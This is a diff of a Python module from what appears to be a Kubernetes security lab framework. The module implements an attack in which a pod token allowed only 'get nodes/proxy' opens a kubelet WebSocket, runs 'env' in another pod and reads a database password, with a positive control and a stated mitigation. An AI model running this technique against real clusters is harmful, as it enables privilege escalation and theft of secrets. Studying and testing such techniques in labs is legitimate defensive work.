@@ -1,7 +1,10 @@
-"""Run a command in any container with no more than the right to ``get`` ``nodes/proxy``.
+"""Run a command in any container with only the right to get nodes/proxy.
 
-A WebSocket begins as a GET, and the kubelet authorizes it as one: the verb is get, whatever is
-run afterwards. So the right that monitoring agents were given "to read only" is none.
+A WebSocket starts with a GET request, and the kubelet authorizes this request with the verb
+``get``, even for exec. The right that monitoring agents get "to read only" therefore runs
+commands. The attacker needs a foothold in a pod whose account has this right. They open a
+WebSocket to the kubelet and read a secret from another container. An agent that gets
+``nodes/metrics`` instead of ``nodes/proxy`` stops it.
 """
 
 from __future__ import annotations
@@ -16,7 +19,7 @@ from labkit.model import Foothold, Model, read_model
 from labkit.model.credentials import client_credential
 from labkit.model.rights import Action, bearer_at_kubelet, may_at_kubelet
 from labkit.model.workloads import token_caller, token_in
-from labkit.techniques._lib.api.kubelet import CHANNEL, patiently
+from labkit.techniques._lib.api.kubelet import CHANNEL, retry_unknown_pod
 from labkit.techniques._lib.machines.pod import find_pod, token_of
 from labkit.techniques._lib.machines.reach import inside, run
 from labkit.techniques._lib.stores.secret import true_secret
@@ -29,7 +32,7 @@ if TYPE_CHECKING:
 
 __all__ = ["TECHNIQUE"]
 
-#: Who holds the right: a pod whose token the kubelets are to know.
+#: The pod whose account has the right to get nodes/proxy.
 AGENT = ("monitoring", "agent")
 KUBELET = "kubelet@worker1"
 WANTED = ("shop", "db-credentials", "password")
@@ -39,7 +42,7 @@ SWITCHING, REFUSED = 101, (401, 403)
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
-    """Say what the model says: whom the kubelet takes the agent for, and what it lets him get."""
+    """Predict how the kubelet identifies the agent, and whether it may get nodes/proxy."""
     env, kubelet = model.environment, model.environment.component(KUBELET)
     agent = token_caller(env, *AGENT)
     if agent is None:
@@ -51,8 +54,8 @@ def predict(model: Model, foothold: Foothold) -> Prediction:
 
 
 def execute(lab: Lab, foothold: Foothold) -> Verdict:
-    """Run ``env`` in the pod shop/web with the token of monitoring/agent, from there."""
-    return patiently(lambda: _attempt(lab, foothold))
+    """Run ``env`` in the pod shop/web with the token of monitoring/agent, from the agent's pod."""
+    return retry_unknown_pod(lambda: _attempt(lab, foothold))
 
 
 def _attempt(lab: Lab, foothold: Foothold) -> Verdict:
@@ -61,7 +64,7 @@ def _attempt(lab: Lab, foothold: Foothold) -> Verdict:
     pod = find_pod(lab, *AGENT)
     token = token_of(lab, pod)
     if token is None:
-        raise ProbeError("the agent has no token, and it should")
+        raise ProbeError("the agent's pod has no token, although its manifest asks for one")
 
     def call(node: str, prefix: list[str], bearer: str, *pair: str) -> dict[str, Any]:
         where = [inside(lab, "worker1"), str(channel.port), PATH]
@@ -76,7 +79,7 @@ def _attempt(lab: Lab, foothold: Foothold) -> Verdict:
             raise ProbeError(f"{TECHNIQUE.name}: HTTP {said['status']}", evidence=[said["body"]])
         if said["status"] == SWITCHING and not secret.found_in(base64.b64decode(said["output"])):
             raise ProbeError(
-                "the command ran, but did not say what it should", evidence=[said["end"]]
+                "the command ran, but its output does not hold the secret", evidence=[said["end"]]
             )
         return said
 
@@ -85,12 +88,12 @@ def _attempt(lab: Lab, foothold: Foothold) -> Verdict:
     if said["status"] == SWITCHING:
         evidence = (asked, f"ran env in shop/web over {said['protocol']}", f"read: {secret.proof}")
         return Verdict(TECHNIQUE.name, lab.mode, foothold, True, "HTTP 101", evidence)
-    held = client_credential(read_model(lab.environment), channel)
-    if held is None:
-        raise ProbeError("the apiserver has no certificate for the kubelets")
+    credential = client_credential(read_model(lab.environment), channel)
+    if credential is None:
+        raise ProbeError("the apiserver has no client certificate for the kubelets")
     node = channel.client.partition("@")[2]
-    if call(node, [], "", held.certificate, held.key)["status"] != SWITCHING:
-        raise ProbeError("the kubelet does not serve the apiserver either")
+    if call(node, [], "", credential.certificate, credential.key)["status"] != SWITCHING:
+        raise ProbeError("positive control: the kubelet refuses the apiserver, too")
     control = "with the apiserver's certificate, the same WebSocket runs the command"
     reason = f"HTTP {said['status']}"
     return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (asked,), control)
